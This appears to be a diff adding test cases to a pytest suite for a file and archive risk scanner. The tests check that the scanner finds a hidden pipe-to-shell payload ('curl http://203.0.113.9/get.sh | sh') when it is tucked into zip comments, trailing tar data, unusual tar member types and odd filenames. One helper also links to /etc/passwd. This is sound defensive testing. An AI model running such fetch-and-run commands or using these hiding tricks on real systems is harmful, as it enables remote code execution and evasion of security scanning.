@@ -8,6 +8,7 @@ import random
 import tarfile
 import time
 from collections.abc import Callable
+from typing import cast
 from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile, ZipInfo
 
 import pytest
@@ -16,6 +17,8 @@ from hypothesis import strategies as st
 
 from storage.schemas import FileContent, Finding
 from tasks.refine.risks.contents import crawled, read_contents, scan_bundles
+from tasks.refine.risks.files import ANALYSES, TextFile, scan_files
+from tasks.refine.risks.rules import Hit
 from tasks.refine.text.canonical import MAX_CONTROL_SHARE
 
 PIPED = b"#!/bin/sh\ncurl http://203.0.113.9/get.sh | sh\n"
@@ -42,6 +45,17 @@ def tarred(*members: tuple[str, bytes | None]) -> bytes:
                 info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
             archive.addfile(info, io.BytesIO(content or b""))
     return packed.getvalue()
+
+
+def commented(content: bytes, comment: bytes) -> bytes:
+    return content[:-2] + len(comment).to_bytes(2, "little") + comment
+
+
+def of_type(content: bytes, kind: bytes) -> bytes:
+    """Give the first member of a tar that type."""
+    info = tarfile.TarInfo.frombuf(content[:512], "utf-8", "strict")
+    info.type = kind
+    return info.tobuf(tarfile.USTAR_FORMAT) + content[512:]
 
 
 def under_password() -> bytes:
@@ -99,6 +113,10 @@ PIPE = "remote.pipe-to-shell"
         ("a.zip", zipped(link("x/y", b"../../z")), {"path.link-out": "a.zip!x/y"}),
         ("a.zip", zipped(link("x/y", b"../z")), {}),
         ("a.tar", tarred(("notes", None)), {"path.link-out": "a.tar!notes"}),
+        ("a.zip", commented(zipped(("a", b"ls")), PIPED), {PIPE: "a.zip!behind its end"}),
+        ("a.tar", tarred(("a", b"ls")) + PIPED, {PIPE: "a.tar!behind its end"}),
+        ("a.tar", of_type(tarred(("run.sh", PIPED)), b"Q"), {PIPE: "a.tar!run.sh"}),
+        ("a.tar", tarred(("ru\udcffn.sh", PIPED)), {PIPE: "a.tar!ru\\udcffn.sh"}),
         ("logo.png", PICTURE, {"unscanned.binary": "logo.png"}),
         ("logo.png", PICTURE + PIPED, {"unscanned.binary": "logo.png", PIPE: "logo.png"}),
         ("logo.png", PICTURE + zipped(("run.sh", PIPED)), {PIPE: "logo.png!run.sh"}),
@@ -122,6 +140,24 @@ def test_of_many_archives_the_first_are_opened_and_each_other_is_named() -> None
         f"{n:02}.zip!run.sh" for n in range(16)
     ]
     assert [at for at, one in found if one.code == "risk.unscanned.archive"] == ["16.zip", "17.zip"]
+
+
+def test_a_folder_of_many_office_files_is_no_warning() -> None:
+    office = zipped(("[Content_Types].xml", b"<Types/>"))
+    files = [FileContent(f"{n:02}.docx", office) for n in range(18)]
+    (found,) = scan_bundles([files], max_control_share=MAX_CONTROL_SHARE)
+    assert [(at, one.code, one.severity) for at, one in found] == [
+        (f"{n}.docx", "risk.unscanned.archive", "info") for n in (16, 17)
+    ]
+
+
+def test_an_error_in_an_analysis_is_said_of_the_text(monkeypatch: pytest.MonkeyPatch) -> None:
+    def fails(_: str) -> list[Hit]:
+        raise KeyError
+
+    monkeypatch.setitem(cast("dict[str, object]", ANALYSES), "shell", (fails,))
+    (found,) = scan_files([TextFile("ls\n", "run.sh")])
+    assert [(one.code, "KeyError" in one.message) for one in found] == [("risk.unscanned.code", True)]
 
 
 def test_of_a_folder_that_is_full_the_short_files_are_read_first_and_the_others_named() -> None:
